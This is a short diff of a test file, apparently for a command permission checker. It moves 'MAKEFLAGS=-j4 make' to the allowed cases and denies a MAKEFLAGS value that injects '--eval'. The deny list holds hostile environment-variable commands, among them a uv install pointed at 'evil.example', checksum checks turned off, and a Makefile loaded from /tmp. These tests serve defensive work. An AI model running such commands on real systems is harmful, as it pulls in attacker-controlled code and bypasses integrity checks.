@@ -332,7 +332,8 @@ describe('code and programs given to options, subcommands and variables (session
       [
         'UV_INDEX_URL=http://evil.example uv pip install requests',
         'GOSUMDB=off go mod download',
-        'MAKEFLAGS=-j4 make',
+        // (make's harmless flags pass, word by word: `MAKEFLAGS=-j4 make`, below)
+        "MAKEFLAGS='-j4 --eval=x' make",
         'MAKEFILES=/tmp/x.mk make',
       ],
       'deny',
@@ -342,6 +343,7 @@ describe('code and programs given to options, subcommands and variables (session
     expectAll(
       [
         'CC=clang make -j4',
+        'MAKEFLAGS=-j4 make',
         'CXX=g++-12 cmake -S . -B build',
         'CC="ccache gcc" make',
         'mix test',
